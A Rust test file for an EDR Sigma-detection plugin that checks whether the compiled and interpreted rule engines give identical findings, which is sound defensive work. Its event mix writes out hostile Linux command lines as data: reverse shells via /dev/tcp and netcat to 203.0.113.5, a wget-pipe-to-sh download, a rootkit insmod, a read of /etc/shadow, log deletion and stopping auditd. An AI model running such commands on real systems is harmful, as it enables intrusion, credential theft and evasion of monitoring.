//! The compiled rules (the default `engine`) against the interpreted engine
//! (`engine: interpreted`), through the plugin: every SigmaHQ Linux rule and
//! the built-in rules, on the SigmaHQ and built-in test cases and on a mix of
//! ordinary and attack events; the findings must be identical, event by
//! event, in content and order.

mod common;

use common::*;
use edr_plugin_sigma::Sigma;
use edr_sdk::testing::model::{Event, EventBody, FileOp};
use edr_sdk::testing::{connect, events_from_jsonl, exec, file, Harness};

fn pair(files: Vec<edr_sdk::DataFile>) -> (Harness<Sigma>, Harness<Sigma>) {
    let compiled = Harness::<Sigma>::with_config(config(files.clone(), &[])).expect("compiled loads");
    let interpreted = Harness::<Sigma>::with_config(config(files, &[("engine", "interpreted")])).expect("interpreted loads");
    assert_eq!(compiled.detector().loaded(), interpreted.detector().loaded());
    (compiled, interpreted)
}

/// Runs each event alone through both; returns how many events fired.
fn compare(c: &mut Harness<Sigma>, i: &mut Harness<Sigma>, events: &[Event]) -> usize {
    let mut fired = 0;
    for e in events {
        let (a, b) = (c.run(std::slice::from_ref(e)), i.run(std::slice::from_ref(e)));
        let ids = |f: &[edr_sdk::Finding]| f.iter().map(|f| f.rule_id.clone()).collect::<Vec<_>>();
        assert_eq!(ids(&a), ids(&b), "rule ids differ on {e:?}");
        assert_eq!(format!("{a:?}"), format!("{b:?}"), "findings differ on {e:?}");
        fired += usize::from(!a.is_empty());
    }
    fired
}

fn case_events(file: &str) -> Vec<Event> {
    let mut out = Vec::new();
    for c in cases(file) {
        out.extend(events_from_jsonl(&c.positive).unwrap());
        out.extend(events_from_jsonl(&c.negative).unwrap());
    }
    out
}

/// Ordinary and attack events, with case changes of the same.
fn mix() -> Vec<Event> {
    let mut v = vec![
        exec("/usr/bin/ls", &["ls", "-la", "/var/log"]).parent("/usr/bin/bash", &["-bash"]).build(),
        exec("/bin/sh", &["/bin/sh", "-c", "test -x /usr/sbin/anacron || run-parts --report /etc/cron.daily"])
            .parent("/usr/sbin/cron", &["/usr/sbin/CRON", "-f"])
            .build(),
        exec("/usr/bin/curl", &["curl", "-fsS", "https://api.internal.example/health"]).parent("/bin/sh", &["/bin/sh", "-c", "/opt/monitor/check.sh"]).build(),
        exec("/usr/bin/bash", &["bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"]).parent("/usr/sbin/nginx", &["nginx: worker process"]).build(),
        exec("/usr/bin/nc", &["nc", "-e", "/bin/sh", "203.0.113.5", "9001"]).parent("/usr/bin/bash", &["bash"]).build(),
        exec("/USR/BIN/NC", &["NC", "-E", "/BIN/SH", "203.0.113.5", "9001"]).parent("/usr/bin/bash", &["bash"]).build(),
        exec("/usr/bin/base64", &["base64", "-d", "/tmp/p"]).parent("/usr/bin/bash", &["bash"]).build(),
        exec("/usr/bin/chattr", &["chattr", "-i", "/etc/passwd"]).user(0, "root").build(),
        exec("/usr/bin/python3", &["python3", "-c", "import pty;pty.spawn('/bin/bash')"]).build(),
        exec("/usr/bin/crontab", &["crontab", "-r"]).build(),
        exec("/usr/sbin/insmod", &["insmod", "/tmp/rootkit.ko"]).build(),
        exec("/usr/bin/find", &["find", "/", "-perm", "-4000", "-type", "f"]).build(),
        exec("/usr/bin/wget", &["wget", "http://x/s.sh", "-O-", "|", "sh"]).cwd("/tmp").build(),
        exec("/usr/bin/systemctl", &["systemctl", "stop", "auditd"]).user(0, "root").build(),
        exec("/usr/bin/ÄRGER", &["ärger", "–exec", "ΣΣ"]).cwd("/tmp/é").build(),
        file(FileOp::Create, "/etc/cron.d/sysupdate").by(2000, "/usr/bin/curl").build(),
        file(FileOp::Modify, "/root/.ssh/authorized_keys").by(2000, "/usr/bin/vim").build(),
        file(FileOp::Modify, "/etc/ld.so.preload").by(2000, "/usr/bin/tee").build(),
        file(FileOp::Chmod, "/tmp/x").by(2000, "/usr/bin/chmod").mode(0o104755).build(),
        file(FileOp::Delete, "/var/log/auth.log").by(2000, "/usr/bin/rm").build(),
        file(FileOp::Read, "/etc/shadow").by(2000, "/usr/bin/python3").build(),
        file(FileOp::Rename, "/tmp/.x").by(2000, "/usr/bin/mv").renamed_from("/tmp/x").build(),
        connect("/usr/bin/bash", "203.0.113.5", 4444),
        connect("/usr/bin/curl", "93.184.216.34", 443),
        connect("/usr/bin/python3", "10.0.0.1", 1337),
    ];
    // The same command lines with the executable's case changed.
    let upper: Vec<Event> = v[..15]
        .iter()
        .filter_map(|e| match &e.body {
            EventBody::ProcessExec(x) => {
                let argv: Vec<String> = x.argv.iter().map(|a| a.to_uppercase()).collect();
                let argv: Vec<&str> = argv.iter().map(String::as_str).collect();
                Some(exec(&x.exe.to_uppercase(), &argv).parent(&x.parent_exe, &[]).build())
            }
            _ => None,
        })
        .collect();
    v.extend(upper);
    v
}

#[test]
fn compiled_and_interpreted_agree_on_every_case_and_the_mix() {
    let Some(dir) = corpus() else { return };
    let mut files = rule_files(dir);
    files.extend(rule_files(&builtin_dir()).into_iter().map(|mut f| {
        f.name = format!("edr/{}", f.name);
        f
    }));
    let (mut c, mut i) = pair(files);
    let mut events = case_events("tests/cases.jsonl");
    events.extend(case_events("tests/builtin_cases.jsonl"));
    events.extend(mix());
    let fired = compare(&mut c, &mut i, &events);
    eprintln!("{} events, {fired} fired, identical findings", events.len());
    assert!(fired * 3 > events.len(), "only {fired} of {} events fired", events.len());
}

#[test]
fn builtin_rules_alone_agree() {
    let (mut c, mut i) = pair(Vec::new());
    let mut events = case_events("tests/builtin_cases.jsonl");
    events.extend(mix());
    assert!(compare(&mut c, &mut i, &events) > 20);
}

#[test]
fn engine_setting_is_checked() {
    let e = Harness::<Sigma>::with_config(config(Vec::new(), &[("engine", "jit")])).err().expect("refused");
    assert!(e.contains("setting `engine`") && e.contains("interpreted"), "{e}");
    assert!(Harness::<Sigma>::with_config(config(Vec::new(), &[("engine", " Compiled ")])).is_ok());
}
